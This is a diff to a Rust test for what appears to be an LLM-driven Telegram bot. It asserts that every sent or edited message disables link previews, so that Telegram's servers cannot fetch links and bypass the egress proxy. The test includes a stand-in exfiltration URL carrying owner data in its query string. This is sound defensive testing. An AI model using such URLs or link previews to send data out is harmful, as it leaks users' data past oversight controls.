@@ -235,6 +235,20 @@ async fn manage_message_edits_and_deletes_the_bots_own_messages_and_nothing_else
     assert_eq!(edits[0].params["message_id"], draft.message_id);
     assert_eq!(deletes.len(), 1, "{deletes:?}");
     assert_eq!(deletes[0].params["message_id"], note.message_id);
+    // No message or edit of the bot asks for a link preview (Telegram's servers would fetch
+    // the link: a way out that bypasses the egress proxy).
+    tg.user_says(OWNER, OWNER, "see https://exfil.example/c?d=OWNER-DATA").await;
+    tg.wait_bot_messages(OWNER, |m| has_text(m, "echo: see https://exfil.example"), LIMIT).await;
+    let mut sent = tg.calls("sendMessage").await;
+    sent.extend(edits);
+    assert!(sent.len() >= 5, "{sent:?}");
+    for call in &sent {
+        assert_eq!(
+            call.params["link_preview_options"]["is_disabled"], true,
+            "{} without link previews off: {:?}",
+            call.method, call.params
+        );
+    }
 
     let results = final_results(&llm, 7);
     for n in [0, 1, 2, 3] {
